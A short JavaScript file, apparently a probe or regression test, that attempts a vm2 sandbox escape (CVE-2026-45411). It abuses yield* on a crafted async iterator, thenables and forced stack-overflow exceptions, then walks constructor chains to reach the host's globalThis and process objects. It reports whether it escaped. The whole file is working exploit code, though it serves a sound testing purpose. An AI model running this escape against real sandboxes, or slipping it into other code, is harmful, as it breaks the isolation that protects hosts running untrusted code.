// tries: the way out of vm2 (CVE-2026-45411): an exception of the engine's own, through yield* in an async generator
// expect: success error timeout
async function run(input) {
  const seen = [];
  async function* outer() {
    try {
      yield* {
        [Symbol.asyncIterator]: () => ({
          next: () => ({ value: 1, done: false }),
          return: () => ({ get then() { return (done, failed) => failed(new Error().stack, seen.push(1)); } }),
          throw: () => { (function again() { again(); })(); },
        }),
      };
    } catch (error) {
      seen.push(error);
    }
  }
  for (const close of ["return", "throw"]) {
    const it = outer();
    await it.next();
    await it[close]({ then(done) { done.constructor("return globalThis")().note = 1; done(); } }).catch((e) => seen.push(e));
  }
  for (const error of seen) {
    try {
      if (error.constructor.constructor("return process")()) return "escaped";
    } catch {}
  }
  return globalThis.note === undefined ? "contained" : "left a note";
}
